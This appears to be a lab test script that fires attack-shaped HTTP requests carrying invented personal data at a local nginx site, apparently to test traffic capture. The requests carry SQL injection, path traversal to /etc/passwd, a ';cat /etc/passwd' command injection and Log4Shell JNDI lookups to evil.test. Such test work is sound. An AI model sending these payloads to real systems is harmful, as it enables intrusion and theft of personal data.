#!/usr/bin/env bash
. "$(dirname "$0")/../lib/lab.sh"
. "$lib/servers.sh"

# A request shaped like an attack whose every part holds invented personal data. 070761-4285 is the
# published example of a Danish personal number; nobody has it.
bridge
host www 203.0.113.80/24
host ann 10.20.0.11/24
make_site "$lab/site"
nginx_on www 80 <<<"server { listen 80; root $lab/site; location /api { return 200 'ok'; } }"
echo '203.0.113.80 www.agency.example' >>"$lab/hosts"

capture
number=070761-4285
get() { quiet_curl ann -g "$@"; }
get "http://www.agency.example/citizen?cpr=$number&email=nancy.berggren%40mail.example&id=1%20UNION%20SELECT%20cpr,password%20FROM%20citizens--" \
  -H "Cookie: session=s3cr3t-session-4711; cpr=$number; mail=nancy.berggren@mail.example" \
  -H 'Authorization: Bearer eyJhbGciOiJub25lIn0.eyJuYW1lIjoiTmFuY3kifQ.' \
  -H "X-Forwarded-For: 10.20.0.11" -e "http://www.agency.example/search?q=$number"
get -u nancy:hunter2 "http://www.agency.example/files/../../etc/passwd?user=nancy.berggren@mail.example" --path-as-is
get -d "cpr=$number&name=Nancy+Berggren&phone=%2B45+12+34+56+78&email=nancy.berggren@mail.example&cmd=;cat /etc/passwd" \
  -H "Cookie: cpr=${number/-/}" "http://www.agency.example/api/form"
get -H 'Content-Type: application/json' \
  -d "{\"cpr\":\"$number\",\"mail\":\"nancy.berggren@mail.example\",\"note\":\"\${jndi:ldap://evil.test/a}\"}" \
  "http://www.agency.example/api/json"
get -A "\${jndi:ldap://evil.test/$number/nancy.berggren@mail.example}" "http://www.agency.example/citizen/${number/-/}/record"
get "http://www.agency.example/search?q=Nancy%20Berggren%20070761%204285&card=4111111111111111&iban=DK5000400440116243"
finish curl nginx
